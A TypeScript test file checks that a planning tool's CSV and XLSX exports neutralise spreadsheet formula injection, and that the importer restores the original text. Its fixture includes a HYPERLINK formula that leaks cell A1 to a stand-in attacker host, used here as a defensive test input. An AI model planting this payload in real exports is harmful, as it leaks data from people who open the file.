import { parse as parseCsv } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { unguardFormula } from '../import/table.ts'
import type { PlanTree } from '../plan-tree.ts'
import { exportPlanCsv } from './csv.ts'
import { guardFormula } from './formula-guard.ts'
import { content, deliverable, importExported } from './test-support.ts'
import { exportPlanXlsx } from './xlsx.ts'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'
const DANGEROUS = /^[=+\-@\t\r]/

const tree: PlanTree = {
  title: HYPERLINK,
  leadership: [{ name: '=Leader', initials: 'EL', organisation: '+Org', role: '-Role' }],
  strategicAims: ['@Aim'],
  themes: [
    {
      title: '=DANGER',
      subtitle: 'Subtitle',
      notes: ['* a footnote'],
      actions: [
        {
          number: '1',
          locallyAdded: false,
          text: '+1',
          deliverables: [
            deliverable({
              outcome: '-2',
              leads: ['-Dash Lead', 'Plain Lead'],
              leadOrganisations: ['@Org'],
              supportingOrganisations: '=1+1',
              progress: "'=already quoted",
              comment: '@SUM(A1)',
              documentReferences: "''+quoted twice",
            }),
          ],
        },
      ],
    },
  ],
}

async function xlsxCells(buffer: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer)
  const cells: ExcelJS.Cell[] = []
  workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
  return cells
}

describe('formula guard', () => {
  it('is undone exactly by the importer, even for text that already starts with quotes', () => {
    for (const text of [
      '=x',
      '+1',
      '-2',
      '@a',
      '\tx',
      '\rx',
      "'=x",
      "''=x",
      "'x",
      "'",
      '',
      'plain',
      '- ',
      '> point',
    ]) {
      expect(unguardFormula(guardFormula(text))).toBe(text)
    }
    expect(guardFormula('> point')).toBe('> point')
    expect(guardFormula("'plain")).toBe("'plain")
  })

  it('leaves no CSV cell starting a formula, and quotes the dangerous ones', () => {
    const csv = exportPlanCsv(tree)
    const cells = (parseCsv(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat()
    expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([])
    for (const guarded of [
      `'${HYPERLINK}`,
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'=Leader (EL)",
      "'+Org",
      "'-Role",
      "'@Aim",
      "'=1+1",
    ]) {
      expect(cells).toContain(guarded)
    }
    expect(cells).toContain("'=DANGER Subtitle")
    expect(cells).toContain("''=already quoted")
    expect(cells).toContain("'''+quoted twice")
    expect(cells).toContain("'-Dash Lead/Plain Lead")
  })

  it('leaves no xlsx cell starting a formula, and writes text, never a formula cell', async () => {
    const cells = await xlsxCells(await exportPlanXlsx(tree))
    const texts = cells.map((c) => c.text)
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([])
    expect(texts.filter((t) => DANGEROUS.test(t))).toEqual([])
    for (const guarded of [
      `'${HYPERLINK}`,
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'=Leader (EL)",
      "'@Aim",
      "'=DANGER Subtitle",
    ]) {
      expect(texts).toContain(guarded)
    }
  })

  it('gives the original text back on import, from xlsx and CSV', async () => {
    const fromXlsx = await importExported(await exportPlanXlsx(tree), 'guarded.xlsx')
    const fromCsv = await importExported(exportPlanCsv(tree), 'guarded.csv')
    expect(content(fromXlsx)).toEqual(content(tree))
    expect(content(fromCsv)).toEqual(content(tree))
  })
})
